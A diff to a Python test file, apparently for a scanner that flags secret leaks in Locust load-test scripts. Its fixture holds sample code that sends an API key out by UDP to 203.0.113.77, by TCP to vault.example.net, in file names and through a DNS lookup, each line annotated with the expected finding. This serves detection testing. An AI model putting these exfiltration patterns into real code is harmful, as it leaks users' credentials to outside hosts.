@@ -255,7 +255,7 @@ def test_junit_tells_what_ran(project: Project) -> None:
     assert int(properties["lines"]) == int(properties["lines.ran"]) + 1
 
 
-#: Each line that lets something out says in which source of which channel; `?` stands for what has a new name each time.
+#: Each line that lets something out says in which source of which channel, or with `?` how that source ends.
 SCATTERED = """
 import os, pathlib, pickle, socket, tempfile, zipfile
 from locust import HttpUser, SequentialTaskSet, constant, task
@@ -291,8 +291,10 @@ class Steps(SequentialTaskSet):
         with open("six-" + value(), "w") as file:  #! files six-[SHOP_API_KEY]
             file.write("x")
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as metrics:
-            metrics.sendto(b"key:" + value().encode(), ("203.0.113.77", 9999))  #! other-hosts 203.0.113.77:9999 (a datagram)
-        with socket.create_connection(("vault.example.net", 6000)) as other:  #! other-hosts vault.example.net:6000 (no HTTP)
+            text = b"key:" + value().encode()
+            metrics.sendto(text, ("203.0.113.77", 9999))  #! other-hosts 203.0.113.77:9999 (a datagram)
+        address = ("vault.example.net", 6000)
+        with socket.create_connection(address) as other:  #! other-hosts vault.example.net:6000 (no HTTP)
             other.sendall(b"\\x00key " + value().encode() + b"\\n")
         try:
             socket.getaddrinfo(value()[:24] + ".example.net", 80)
